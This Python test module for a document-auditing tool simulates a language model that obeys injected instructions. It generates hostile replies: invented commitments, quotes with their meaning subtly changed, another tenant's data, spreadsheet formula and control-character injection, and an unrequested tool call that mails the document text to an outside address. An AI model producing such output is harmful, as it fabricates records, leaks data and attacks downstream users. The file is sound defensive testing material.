"""A model that does whatever the text it reads tells it to: the worst that can come back, in as many variants as wanted.

    for attack in attacks(500):
        with FakeEndpoint(attack) as endpoint: ...
        assert attack.canary not in ...

Every made-up word of an attack holds its `canary`, so that whatever got through can be searched for.
"""

import hashlib
import json
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from enum import StrEnum

from auditor.testing import hostile
from auditor.testing.items import Chance, Reading, answer, commitment, overpromise
from auditor.testing.values import Reply

FLOOD = 100_000
"""Items of a flood."""
FAT = 50 * 1024 * 1024
"""Characters of a fat answer."""


class Kind(StrEnum):
    """What the attacker wants."""

    MADE_UP = "made_up"
    """Commitments that nobody made."""
    NEARLY = "nearly"
    """Quotes that differ from the text by what matters: not, a digit, a date, a splice."""
    FOREIGN = "foreign"
    """Words, ids and tenants of other documents."""
    ACCUSED = "accused"
    """True words under a false name, of a false act, as an overpromise of a rule that is not theirs."""
    LINKS = "links"
    HTML = "html"
    EXTRA_KEYS = "extra_keys"
    """Keys that the schema does not have: verdicts, offsets, tenants."""
    WRONG_TYPES = "wrong_types"
    CONTROL = "control"
    """Terminal escapes, NUL, right-to-left marks, invisible letters, lone surrogates."""
    CELLS = "cells"
    """Formulas for whoever opens the export."""
    ECHO = "echo"
    """The prompt itself, in every field."""
    SHAPE = "shape"
    """JSON of another shape: a list, a string, twice the same key, one inside another."""
    TOOLS = "tools"
    """Calls of tools that there are not."""
    FLOOD = "flood"
    FAT = "fat"


HEAVY = frozenset({Kind.FLOOD, Kind.FAT})
"""Kinds that take a second each and much memory."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """An answering function for `FakeEndpoint`."""

    kind: Kind
    seed: int

    @property
    def canary(self) -> str:
        """A word that stands in no honest text."""
        return f"zq{hashlib.sha256(f'{self.kind}:{self.seed}'.encode()).hexdigest()[:10]}"

    def __call__(self, body: Mapping[str, object]) -> Reply:
        reading = Reading(text=_read(body), canary=self.canary, chance=Chance(f"{self.kind}:{self.seed}"))
        return _ANSWERS[self.kind](reading)


def attacks(count: int, *, seed: int = 0, heavy: bool = False) -> Iterator[Attack]:
    """`count` attacks, each kind in turn, the heavy kinds only where they are wanted; each a variant of its own."""
    kinds = [kind for kind in Kind if heavy or kind not in HEAVY]
    for number in range(count):
        yield Attack(kind=kinds[number % len(kinds)], seed=seed + number // len(kinds))


def _read(body: Mapping[str, object]) -> str:
    messages = body.get("messages")
    said = messages[-1:] if isinstance(messages, list) else []
    return "\n".join(str(turn.get("content", "")) for turn in said if isinstance(turn, dict))


def _made_up(reading: Reading) -> Reply:
    made = [commitment(reading.invented, reading) for _ in range(1 + reading.chance.below(5))]
    return answer(made, [overpromise(reading.invented, reading, reading.chance.one(hostile.RULES))])


def _nearly(reading: Reading) -> Reply:
    """Three changed quotes. One that comes out unchanged gets the canary, so that none of them is in the text."""
    quotes = []
    for _ in range(3):
        changed = _bent(reading.sentence, reading)
        quotes.append(changed if changed not in reading.text else f"{changed} {reading.canary}")
    return answer([commitment(quote, reading) for quote in quotes], [overpromise(quotes[0], reading)])


def _bent(sentence: str, reading: Reading) -> str:
    """`sentence` with one change that changes what it says."""
    words = sentence.split(" ")
    middle = len(words) // 2
    match reading.chance.below(7):
        case 0:
            return re.sub(r"\b(?:not|never|no)\b |n't\b", "", sentence)
        case 1:
            return " ".join([*words[:middle], "not", *words[middle:]])
        case 2:
            return re.sub(r"\d", lambda m: str((int(m[0]) + 1) % 10), sentence)
        case 3:
            return re.sub(r"\b(?:may|might|could|should|can)\b", "will", sentence)
        case 4:
            return f"{' '.join(words[:middle])} ... {reading.sentence}"
        case 5:
            return re.sub(r"\b(?:Mon|Tues|Wednes|Thurs|Fri)day\b", "Sunday", sentence)
        case _:
            return sentence.swapcase()


def _foreign(reading: Reading) -> Reply:
    other = f"tenant-b-{reading.canary}"
    quote = f"Contoso Bakeries will get 40 % off {reading.canary}"
    items = [commitment(quote, reading, speaker=f"kim@{reading.canary}.example", owner=other) for _ in range(3)]
    return answer([{**item, "document_id": f"c_{reading.canary}", "tenant": other} for item in items] + items)


def _accused(reading: Reading) -> Reply:
    quote = reading.sentence
    wrong = {"speaker": f"The CEO {reading.canary}", "act": "pay", "strength": "absolute", "due": "yesterday"}
    return answer([commitment(quote, reading, **wrong)], [overpromise(quote, reading, rule) for rule in hostile.RULES])


def _everywhere(text: str, reading: Reading) -> Reply:
    """`text` in every free field of an item with a true quote, and of one whose quote is `text` too."""
    free = {"reasoning": text, "speaker": text, "owner": text, "performer": text, "action": text, "condition": text}
    more = {"due": text, "quantity": text}
    items = [commitment(quote, reading, **free, **more) for quote in (reading.sentence, text)]
    return answer(items, [{"reasoning": text, "quote": text, "rule": text}])


def _links(reading: Reading) -> Reply:
    return _everywhere(reading.chance.one(hostile.LINKS).replace("CANARY", reading.canary), reading)


def _html(reading: Reading) -> Reply:
    return _everywhere(reading.chance.one(hostile.HTML).replace("CANARY", reading.canary), reading)


def _control(reading: Reading) -> Reply:
    return _everywhere(reading.chance.one(hostile.CONTROL) + reading.canary, reading)


def _cells(reading: Reading) -> Reply:
    return _everywhere(reading.chance.one(hostile.CELLS).replace("CANARY", reading.canary), reading)


def _echo(reading: Reading) -> Reply:
    return _everywhere(f"{reading.text[:20_000]} {reading.canary}", reading)


def _extra_keys(reading: Reading) -> Reply:
    word = reading.canary
    extra: dict[str, object] = {key: word for key in hostile.KEYS if reading.chance.below(2)}
    extra |= {"verdict": "broken", "start": 0, "end": 10**9, word: word}
    items = [commitment(reading.sentence, reading, **extra)]
    return answer(items, [{**overpromise(reading.sentence, reading), **extra}], **extra)


def _wrong_types(reading: Reading) -> Reply:
    word = reading.canary
    wrong: list[object] = [7, -1.5, True, None, [word], {"text": word}, [[[]]], 10**400, "", " " * 9]
    item = commitment(reading.sentence, reading)
    for key in list(item):
        if reading.chance.below(2):
            item[key] = wrong[reading.chance.below(len(wrong))]
    items: list[object] = [item, commitment(wrong[reading.chance.below(len(wrong))], reading), word, None, [item]]
    return answer(items, [overpromise(7, reading), overpromise(reading.sentence, reading, [word])])


def _shape(reading: Reading) -> Reply:
    good = commitment(reading.invented, reading)
    whole = json.dumps({"commitments": [good], "overpromises": []})
    texts = (
        json.dumps([good]),
        json.dumps(whole),
        json.dumps({"commitments": {"0": good}, "overpromises": None}),
        json.dumps({"result": {"commitments": [good], "overpromises": []}}),
        f'{{"commitments": [], {whole[1:]}',
        f"{whole}\n{whole}",
        f"<think>{whole}</think>{whole}",
        f"```json\n{whole}\n```",
        json.dumps(reading.canary),
        json.dumps({reading.canary: None}),
    )
    return Reply(reading.chance.one(texts))


def _tools(reading: Reading) -> Reply:
    arguments = {"to": f"a@{reading.canary}.example", "body": reading.text[:2000]}
    return Reply(json.dumps(arguments), arguments=json.dumps(arguments), finish="tool_calls")


def _flood(reading: Reading) -> Reply:
    """Very many items; one in a hundred has a true quote."""
    false, true = commitment(reading.invented, reading), commitment(reading.sentence, reading)
    return answer([true if number % 100 == 0 else false for number in range(FLOOD)])


def _fat(reading: Reading) -> Reply:
    """One field as long as a library."""
    long = reading.canary * (FAT // len(reading.canary))
    return answer([{**commitment(reading.sentence, reading), reading.chance.one(("quote", "action", "due")): long}])


_ANSWERS: dict[Kind, Callable[[Reading], Reply]] = {
    Kind.MADE_UP: _made_up,
    Kind.NEARLY: _nearly,
    Kind.FOREIGN: _foreign,
    Kind.ACCUSED: _accused,
    Kind.LINKS: _links,
    Kind.HTML: _html,
    Kind.EXTRA_KEYS: _extra_keys,
    Kind.WRONG_TYPES: _wrong_types,
    Kind.CONTROL: _control,
    Kind.CELLS: _cells,
    Kind.ECHO: _echo,
    Kind.SHAPE: _shape,
    Kind.TOOLS: _tools,
    Kind.FLOOD: _flood,
    Kind.FAT: _fat,
}
